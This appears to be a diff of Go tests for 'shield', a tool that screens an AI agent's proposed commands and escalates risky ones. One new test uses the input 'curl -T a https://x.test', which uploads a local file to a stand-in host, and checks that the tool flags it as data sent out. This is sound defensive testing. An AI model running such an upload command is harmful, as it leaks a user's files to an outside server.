@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"slices"
 	"testing"
 
 	"github.com/shieldcli/shield/pkg/action"
@@ -51,13 +52,13 @@ func TestNoModelClears(t *testing.T) {
 			if err != nil {
 				t.Fatal(err)
 			}
-			if d.final {
+			if d.Final {
 				final++
 			}
 			switch {
 			case with.Decision != verdict.Allow:
-			case d.final:
-				t.Errorf("%.200s: allowed though %s", raw, d.reason)
+			case d.Final:
+				t.Errorf("%.200s: allowed though %s", raw, d.Reason)
 			case without.Rule != "":
 				t.Errorf("%.200s: allowed though the rule %s matches", raw, without.Rule)
 			case without.Decision != verdict.Allow:
@@ -68,5 +69,64 @@ func TestNoModelClears(t *testing.T) {
 	t.Logf("%d actions, %d with a doubt that nothing clears; %d reasons that SAFE clears", rows, final, len(cleared))
 	if rows < 2000 || final < 100 || len(cleared) == 0 {
 		t.Error("the rows no longer show it")
+	}
+}
+
+// TestEvidence holds that a traced case says what was weighed, and one that is
+// not traced records nothing.
+func TestEvidence(t *testing.T) {
+	t.Parallel()
+	an, err := analysis.New(analysis.Options{Shell: shell.Analyze, Written: shell.Written, Home: "/home/dev", CWD: "/home/dev/project", Roots: []string{"/home/dev/project"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	a, err := action.Parse([]byte(`{"type":"execute_command","payload":{"command":"\"$NEXT\"; \"$NEXT\"; curl -T a https://x.test"}}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	k := New(Options{Model: scorer{score: Score{Confidence: 0.8}}, Safe: map[string]float64{"execute_command": 0.6}})
+	c := an.Case(a)
+	if _, err := k.Judge(t.Context(), c); err != nil || c.Evidence != nil {
+		t.Errorf("evidence %v, error %v", c.Evidence, err)
+	}
+	c = an.Case(a)
+	c.Evidence = &analysis.Evidence{}
+	v, err := k.Judge(t.Context(), c)
+	if err != nil || v.Decision != verdict.Escalate {
+		t.Errorf("decision %s, error %v", v.Decision, err)
+	}
+	got := c.Evidence
+	if got.For != "" || got.Safe != 0.6 || got.Tier > 1 || got.Answer == nil || *got.Answer != (analysis.Answer{Confidence: 0.8}) {
+		t.Errorf("got %+v", got)
+	}
+	var causes []string
+	for _, d := range got.Doubts {
+		causes = append(causes, d.Cause)
+		if d.Final != (d.Cause == "send_data") {
+			t.Errorf("%s: final is %v", d.Cause, d.Final)
+		}
+	}
+	if !slices.Equal(causes, []string{"variable", "send_data"}) {
+		t.Errorf("causes %q", causes)
+	}
+}
+
+// TestOrdinaryIsTheReason holds that ordinary work is allowed as such, however sure
+// the model is of SAFE.
+func TestOrdinaryIsTheReason(t *testing.T) {
+	t.Parallel()
+	an, err := analysis.New(analysis.Options{Shell: shell.Analyze, Home: "/home/dev", CWD: "/home/dev/project", Roots: []string{"/home/dev/project"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	a, err := action.Parse([]byte(`{"type":"execute_command","payload":{"command":"touch a.txt"}}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, confidence := range []float64{0.51, 0.8, 1} {
+		v, err := New(Options{Model: scorer{score: Score{Confidence: confidence}}}).Judge(t.Context(), an.Case(a))
+		if err != nil || v.Decision != verdict.Allow || v.Confidence != ordinaryConfidence || v.Reasoning != ordinaryReason {
+			t.Errorf("SAFE %v: %s %v %q, error %v", confidence, v.Decision, v.Confidence, v.Reasoning, err)
+		}
 	}
 }
